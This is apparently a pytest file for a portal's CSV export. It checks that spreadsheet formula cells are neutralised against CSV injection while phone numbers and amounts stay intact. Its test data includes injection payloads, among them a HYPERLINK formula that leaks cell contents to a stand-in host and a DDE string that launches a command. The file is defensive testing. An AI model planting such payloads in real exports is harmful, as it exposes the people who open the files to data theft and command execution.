"""portal.csv_export: the one CSV writer and its one formula neutraliser (OWASP CSV injection),
used by the applicant export and every dashboard table."""
from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from portal.csv_export import cell, neutralise, response, write


@pytest.mark.parametrize("formula", [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=1+1",
    "@SUM(A1:A9)",
    "+A1*2",
    "-2+3+cmd|' /C calc'!A0",
    "+31 calc",
    "-A1",
    "\t=1+1",  # a spreadsheet may skip leading tabs and line breaks
    "\r=1+1",
    "\n@SUM(A1)",
    "\t\r-A1",
])
def test_cells_that_start_a_formula_get_an_apostrophe(formula):
    assert neutralise(formula) == "'" + formula


@pytest.mark.parametrize("data", [
    "+31 6 12345678",  # a phone number: the file is for calling people
    "+291 7 123 456",
    "+31 (0)6 1234 5678",
    "-12,50",  # a negative amount
    "-3",
    "-",
    "Samira Haddad",
    "06-12345678",
    "\tgewoon tekst",  # a tab before plain text runs nothing
    "",
    "a=b",
])
def test_data_is_left_as_it_is(data):
    assert neutralise(data) == data


def test_cells_numbers_dates_and_labels():
    assert cell(None) == ""
    assert cell(3) == "3" and cell(-3) == "-3"  # numbers are never neutralised
    assert cell(Decimal("12.5")) in ("12,5", "12.5")
    assert cell(date(2026, 3, 1)) == "2026-03-01"
    assert cell(datetime(2026, 3, 31, 23, 30, tzinfo=UTC)) == "2026-04-01"
    assert cell('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"


def test_file_opens_in_dutch_excel_and_reads_back(app):
    with app.test_request_context("/?lang=nl"):
        text, count = write(["Naam", "Telefoon", "Op"],
                            [["=cmd()", "+31 6 12345678", date(2026, 1, 31)],
                             ["Yonas", "+291 7 123 456", date(2025, 12, 1)]])
    assert count == 2
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["Naam", "Telefoon", "Op"],
                    ["'=cmd()", "+31 6 12345678", "2026-01-31"],
                    ["Yonas", "+291 7 123 456", "2025-12-01"]]
    # ISO dates sort as text in the right order.
    assert sorted(r[2] for r in rows[1:]) == ["2025-12-01", "2026-01-31"]


def test_download_is_never_stored(app):
    with app.test_request_context("/"):
        resp = response("x", "sollicitanten.csv")
    assert resp.mimetype == "text/csv"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="sollicitanten.csv"'
    assert resp.headers["Cache-Control"] == "no-store"
